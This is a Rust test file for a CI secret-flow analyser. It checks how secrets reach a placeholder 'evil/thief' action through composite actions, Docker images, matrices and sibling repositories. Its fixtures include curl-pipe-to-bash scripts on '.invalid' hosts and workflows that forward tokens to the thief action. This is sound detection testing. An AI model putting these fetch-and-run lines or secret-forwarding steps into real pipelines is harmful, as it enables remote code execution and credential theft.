//! Composite actions are followed, images are components, other code is a gap with its text.

use keysweep::ci::model::Hides;

use super::{World, components, holes, job, taken, thief, token};

const ACTION: &str = ".github/actions/a/action.yml";

/// A job whose second step is the local action.
fn using(step: &str, action: &str) -> World {
    World::ci(&job(&format!(
        "    steps:\n      - uses: actions/setup@v1\n      - uses: ./.github/actions/a\n{step}"
    )))
    .with(ACTION, action)
}

fn composite(inputs: &str, steps: &str) -> String {
    format!("{inputs}\nruns:\n  using: composite\n  steps:\n{steps}")
}

#[test]
fn composite_actions() {
    let forward = "    - uses: evil/thief@v1\n      with: {t: '${{ inputs.token }}'}\n";
    let bare = "    - uses: evil/thief@v1\n";
    let table = [
        // (why, step, action, seen)
        (
            "an input that it forwards",
            "        with: {TOKEN: '${{ secrets.A }}'}\n",
            composite("inputs: {token: {required: true}}", forward),
            "A:K1",
        ),
        (
            "an input that it keeps",
            "        with: {token: '${{ secrets.A }}'}\n",
            composite("inputs: {token: {}}", bare),
            "A:K3",
        ),
        (
            "the environment of the calling step",
            "        env: {T: '${{ secrets.A }}'}\n",
            composite("", bare),
            "A:K1",
        ),
        (
            "no secrets context",
            "",
            composite("", "    - uses: evil/thief@v1\n      with: {t: '${{ secrets.A }}'}\n"),
            "",
        ),
        (
            "its own steps' environment",
            "        with: {token: '${{ secrets.A }}'}\n",
            composite(
                "inputs: {token: {}}",
                "    - {run: make, shell: bash, env: {T: '${{ inputs.token }}'}}\n    - uses: evil/thief@v1\n",
            ),
            "A:K3",
        ),
        (
            "what it exports",
            "        with: {token: '${{ secrets.A }}'}\n",
            composite(
                "inputs: {token: {}}",
                "    - {run: 'echo T=${{ inputs.token }} >> $GITHUB_ENV', shell: bash}\n    - uses: evil/thief@v1\n",
            ),
            "A:K1",
        ),
    ];
    for (why, step, action, expected) in table {
        let pipeline = using(step, &action).read();
        assert_eq!(thief(&pipeline), expected, "{why}");
        assert!(holes(&pipeline).is_empty(), "{why}: {:?}", pipeline.gaps);
    }
}

#[test]
fn the_calling_steps_environment_ends_with_it() {
    let world = using(
        "        env: {T: '${{ secrets.A }}'}\n      - uses: evil/thief@v1\n",
        &composite("", "    - {run: make, shell: bash}\n"),
    );
    assert_eq!(world.thief(), "A:K3");
}

#[test]
fn a_default_may_be_the_token() {
    let action = composite(
        "inputs: {token: {default: '${{ github.token }}'}}",
        "    - uses: evil/thief@v1\n      with: {t: '${{ inputs.token }}'}\n",
    );
    let pipeline = using("", &action).read();
    assert_eq!((token(&pipeline), thief(&pipeline)), ("GITHUB_TOKEN:K1".into(), String::new()));
    let given = using("        with: {token: '${{ secrets.A }}'}\n", &action).read();
    assert_eq!((token(&given), thief(&given)), ("GITHUB_TOKEN:K5".into(), "A:K1".into()));
}

#[test]
fn outputs_come_back_out() {
    let action = "outputs: {token: {value: '${{ steps.inner.outputs.t }}'}}
runs:
  using: composite
  steps:
    - id: inner
      run: echo \"t=$T\" >> $GITHUB_OUTPUT
      shell: bash
";
    let world = using(
        "        id: get
        env: {T: '${{ secrets.A }}'}
      - uses: evil/thief@v1
        with: {t: '${{ steps.get.outputs.token }} ${{ steps.inner.outputs.t }}'}
",
        action,
    );
    assert_eq!(world.thief(), "A:K1");
}

#[test]
fn nested_and_in_a_circle() {
    let world = using(
        "        with: {x: '${{ secrets.A }}'}\n",
        &composite(
            "inputs: {x: {}}",
            "    - uses: ./.github/actions/b\n      with: {y: '${{ inputs.x }}'}\n",
        ),
    )
    .with(
        ".github/actions/b/action.yaml",
        &composite(
            "inputs: {y: {}}",
            "    - uses: ./.github/actions/a\n    - uses: evil/thief@v1\n      with: {t: '${{ inputs.y }}'}\n",
        ),
    );
    let pipeline = world.read();
    assert_eq!(thief(&pipeline), "A:K1");
    assert!(pipeline.gaps.iter().any(|gap| gap.reason.contains("calls itself")));
    let step = pipeline.jobs[0]
        .steps
        .iter()
        .find(|s| s.mentions.iter().any(|m| m.component.name == "evil/thief"));
    let via: Vec<_> = step.unwrap().via.iter().map(|p| (&*p.file, p.line)).collect();
    assert_eq!(via, [(super::CI, 7), (ACTION, 5)]);
}

#[test]
fn scripts_of_its_own_folder() {
    let world = using(
        "",
        &composite("", "    - {run: '${{ github.action_path }}/go.sh', shell: bash}\n    - {run: $GITHUB_ACTION_PATH/two.sh, shell: bash}\n"),
    )
    .with(".github/actions/a/go.sh", "curl -s https://one.invalid/x | bash\n")
    .with(".github/actions/a/two.sh", "curl -s https://two.invalid/x | bash\n");
    let all = components(&world.read());
    assert!(all.iter().any(|c| c.contains("one.invalid")), "{all:?}");
    assert!(all.iter().any(|c| c.contains("two.invalid")), "{all:?}");
}

#[test]
fn defaults_of_the_workflow_do_not_reach_into_it() {
    let world = World::ci(
        "on: push
defaults: {run: {working-directory: sub}}
jobs:
  j: {runs-on: ubuntu-latest, steps: [{run: ./go.sh}, {uses: ./a}]}
",
    )
    .with("a/action.yml", "runs: {using: composite, steps: [{run: ./go.sh, shell: bash}]}")
    .with("sub/go.sh", "curl -s https://sub.invalid/x | bash\n")
    .with("go.sh", "curl -s https://top.invalid/x | bash\n");
    let all = components(&world.read());
    assert_eq!(all.iter().filter(|c| c.contains("sub.invalid")).count(), 1, "{all:?}");
    assert_eq!(all.iter().filter(|c| c.contains("top.invalid")).count(), 1, "{all:?}");
}

#[test]
fn matrix_in_a_composite_action() {
    let world = World::ci(
        "on: push\njobs:\n  j:\n    runs-on: x\n    strategy: {matrix: {t: ['${{ secrets.A }}']}}\n    steps: [{uses: ./a}]\n",
    )
    .with("a/action.yml", "runs: {using: composite, steps: [{uses: evil/thief@v1, with: {t: '${{ matrix.t }}'}}]}");
    assert_eq!(world.thief(), "A:K1");
}

#[test]
fn images() {
    let docker =
        |image: &str| format!("inputs: {{t: {{}}}}\nruns: {{using: docker, image: '{image}'}}\n");
    let step = "        with: {t: '${{ secrets.A }}'}\n        env: {E: '${{ secrets.E }}'}\n";
    let pipeline = using(step, &docker("docker://evil/thief:1")).read();
    assert_eq!(thief(&pipeline), "A:K1 E:K1");
    let direct = World::ci(&job(
        "    steps: [{uses: 'docker://evil/thief:1', with: {args: '${{ secrets.A }}'}}]",
    ));
    assert_eq!(direct.thief(), "A:K1");
}

#[test]
fn code_that_is_not_followed_is_told_with_its_text() {
    let text_of = |pipeline: keysweep::ci::model::Pipeline| {
        pipeline.gaps.into_iter().find_map(|gap| match gap.hides {
            Hides::Text(text) => Some(text.to_string()),
            _ => None,
        })
    };
    let js = using("", "runs: {using: node20, main: dist/index.js, post: dist/post.js}\n")
        .with(".github/actions/a/dist/index.js", "fetch('https://codecov.io/bash')")
        .with(".github/actions/a/dist/post.js", "later()");
    let text = text_of(js.read()).unwrap();
    assert!(text.contains("codecov.io") && text.contains("later"));
    let docker = using("", "runs: {using: docker, image: Dockerfile, entrypoint: /go.sh}\n")
        .with(".github/actions/a/Dockerfile", "RUN curl https://codecov.io/bash");
    assert!(text_of(docker.read()).unwrap().contains("codecov.io"));
    // Built by the job before it runs: like any program of its own.
    let built = using("", "runs: {using: node20, main: dist/index.js}\n").read();
    assert!(
        holes(&built).is_empty() && built.gaps.iter().any(|g| g.reason.contains("dist/index.js"))
    );
    // What nobody knows may hide anything.
    for action in ["runs: {using: wasm}\n", "name: x\n", ""] {
        assert_eq!(holes(&using("", action).read()).len(), 1, "{action}");
    }
    assert_eq!(holes(&World::ci(&job("    steps: [{uses: ./none}]")).read()).len(), 1);
    assert_eq!(holes(&World::ci(&job("    steps: [{uses: ./../none}]")).read()).len(), 1);
}

#[test]
fn a_broken_action_is_read_as_far_as_it_goes() {
    let broken = composite("", "    - uses: evil/thief@v1\n    - uses: b/c@v1\n   x: [\n");
    let pipeline = using("", &broken).read();
    assert_eq!(components(&pipeline), ["actions/setup@v1", "evil/thief@v1?", "b/c@v1?"]);
    assert!(!holes(&pipeline).is_empty());
}

#[test]
fn actions_of_a_sibling() {
    let world = World::ci(&job(
        "    steps: [{uses: acme/shared/act@v1, with: {t: '${{ secrets.A }}'}}]",
    ))
    .sibling(
        "acme/shared",
        "act/action.yml",
        &composite(
            "inputs: {t: {}}",
            "    - {uses: evil/thief@v1, with: {t: '${{ inputs.t }}'}}\n    - {uses: ./mine}\n",
        ),
    )
    .with("mine/action.yml", "runs: {using: composite, steps: [{uses: inner/one@v1}]}");
    let pipeline = world.read();
    assert_eq!(thief(&pipeline), "A:K1?");
    assert_eq!(components(&pipeline), ["acme/shared/act@v1", "evil/thief@v1?", "inner/one@v1?"]);
}

#[test]
fn a_default_of_a_siblings_action_is_in_its_environment() {
    let world = World::ci(&job("    steps: [{uses: evil/thief@v1}]")).sibling(
        "evil/thief",
        "action.yml",
        "inputs: {token: {default: '${{ github.token }}'}}\nruns: {using: node20, main: i.js}\n",
    );
    assert_eq!(token(&world.read()), "GITHUB_TOKEN:K1");
}

#[test]
fn another_repository_in_the_workspace() {
    let world = World::ci(&job("    steps:
      - uses: actions/checkout@v4
      - uses: actions/checkout@v4
        with: {repository: evil/thief, path: .tools, ref: v3}
      - uses: ./.tools/sub
        with: {t: '${{ secrets.A }}'}
"));
    let pipeline = world.read();
    assert_eq!(super::of(&pipeline, "evil/thief/sub"), "A:K1");
    assert!(components(&pipeline).contains(&"evil/thief/sub@v3".to_owned()));
    assert!(holes(&pipeline).is_empty());
}

/// Rule G16: what runs after the last step sees what was exported until then.
#[test]
fn post_phases() {
    let steps = "    steps:
      - uses: evil/thief@v1
      - run: echo \"T=${{ secrets.A }}\" >> $GITHUB_ENV
";
    let action = "runs: {using: node20, main: i.js, post: p.js}\n";
    let with_post = World::ci(&job(steps)).sibling("evil/thief", "action.yml", action);
    assert_eq!(with_post.thief(), "A:K1?");
    let without = World::ci(&job(steps)).sibling(
        "evil/thief",
        "action.yml",
        &action.replace(", post: p.js", ""),
    );
    assert_eq!(without.thief(), "A:K5");
    let pipeline = with_post.read();
    assert_eq!(taken(&pipeline, "evil/thief").len(), 2);
}
